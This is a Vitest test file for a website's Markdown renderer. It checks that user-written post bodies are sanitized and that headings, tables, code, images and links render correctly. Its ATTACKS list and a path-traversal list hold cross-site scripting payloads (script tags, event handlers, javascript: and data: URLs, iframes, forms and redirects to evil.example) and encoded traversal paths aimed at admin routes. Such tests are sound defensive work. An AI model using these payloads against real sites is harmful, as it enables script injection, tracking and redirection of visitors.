import { describe, expect, it } from "vitest";
import { renderMarkdown } from "../../server/content/markdown.ts";

/** What an account may type into a body, whoever they are: none of it may run on a public page. */
const ATTACKS = [
  "<script>window.pwned = 1</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  '<img src="/images/og-default.png" onerror="window.pwned = 1">',
  "<img src=x onerror=alert(1)>",
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  '<iframe src="https://evil.example"></iframe>',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](jav&#x09;ascript:alert(1))",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  "![x](https://evil.example/track.png)",
  "![x](//evil.example/track.png)",
  '<p style="background:url(javascript:alert(1))">styled</p>',
  "<details open ontoggle=alert(1)>",
  '<form action="https://evil.example"><button>Send</button></form>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<object data="https://evil.example/x.swf"></object>',
  "<style>body{display:none}</style>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div class="table-scroll" onclick="alert(1)">x</div>',
  "```html\n<script>alert(1)</script>\n```",
];

describe("a body's Markdown rendered for the public page", () => {
  it.each(ATTACKS)("%s cannot run, load or restyle anything", (markdown) => {
    const { html } = renderMarkdown(`Intro\n\n${markdown}\n\nOutro`, "en");
    expect(html).not.toMatch(/<(script|iframe|svg|math|object|embed|form|style|meta|base|details|button)\b/i);
    expect(html).not.toMatch(/\son\w+\s*=/i);
    expect(html).not.toMatch(/javascript:|data:|vbscript:/i);
    expect(html).not.toMatch(/\sstyle\s*=/i);
    expect(html).not.toMatch(/<img[^>]+src="(?!\/(images|media)\/)/i);
    expect(html).toContain("Outro");
  });

  it("resolves an image's dot segments and escapes before judging it, and never loads the inbox or uploads (issue 39.3)", () => {
    for (const src of [
      "/images/../admin/export/applications",
      "/media/../files/upload",
      "/images/%2e%2e/admin/export/requests",
      "/images/%252e%252e/admin/export/requests",
      "/images/..%2Fadmin/export/requests",
      "/media/./../admin/logout",
      "/images/..%5Cadmin/export/requests",
    ]) {
      const { html } = renderMarkdown(`Intro\n\n![x](${src})\n\n<img src="${src}">\n\nOutro`, "en");
      expect(html, src).not.toContain("<img");
      expect(html, src).toContain("Outro");
    }
    // What stays on the site's own images is kept, normalized.
    expect(renderMarkdown("![x](/images/art/../og-default.png)", "en").html).toContain(
      '<img src="/images/og-default.png" alt="x" />',
    );
  });

  it("keeps what posts are written with: headings, tables that scroll, highlighted code, the site's images, links", () => {
    const { html } = renderMarkdown(
      [
        "# Title becomes h2",
        "## Section",
        "| A | B |\n|---|---|\n| 1 | 2 |",
        "```ts",
        "const answer: number = 42;",
        "```",
        "![Diagram](/media/abc/cover-1200.webp)",
        "[EPAM](https://www.epam.com) and [us](/company/about) and [mail](mailto:hr@lojuvard.uz)",
      ].join("\n\n"),
      "ru",
    );
    expect(html).toContain("<h2>Title becomes h2</h2>");
    expect(html).toContain(
      '<div class="table-scroll" tabindex="0" role="region" aria-label="Таблица (прокручивается вбок)">',
    );
    expect(html).toMatch(/<code class="hljs language-ts">\s*<span class="hljs-keyword">const<\/span>/);
    expect(html).toContain('<img src="/media/abc/cover-1200.webp" alt="Diagram" />');
    expect(html).toContain('<a href="https://www.epam.com">EPAM</a>');
    // A Russian body links the Russian page.
    expect(html).toContain('<a href="/ru/company/about">us</a>');
    expect(html).toContain('<a href="mailto:hr@lojuvard.uz">mail</a>');
  });

  it("shows code and markup written as text, as text", () => {
    const { html } = renderMarkdown("Use `<script>` tags carefully.", "en");
    expect(html).toContain("<code>&lt;script&gt;</code>");
  });

  it("gives a table the caption written after or before it as a colon paragraph, in any language", () => {
    const table = "| Metric | Budget |\n|---|---|\n| LCP | 2.5 s |";
    const after = renderMarkdown(`Before.\n\n${table}\n\n: Бюджеты *первого* визита\n\nAfter.`, "ru").html;
    expect(after).toMatch(/<table><caption>Бюджеты <em>первого<\/em> визита<\/caption>\s*<thead>/);
    expect(after).not.toContain("<p>:");
    expect(after).toContain("<p>After.</p>");
    const before = renderMarkdown(`: Birinchi tashrif\n\n${table}`, "uz").html;
    expect(before).toMatch(/<table><caption>Birinchi tashrif<\/caption>\s*<thead>/);
    const plain = renderMarkdown(`Intro.\n\n${table}\n\nNo caption.`, "en").html;
    expect(plain).not.toContain("<caption>");
  });
});
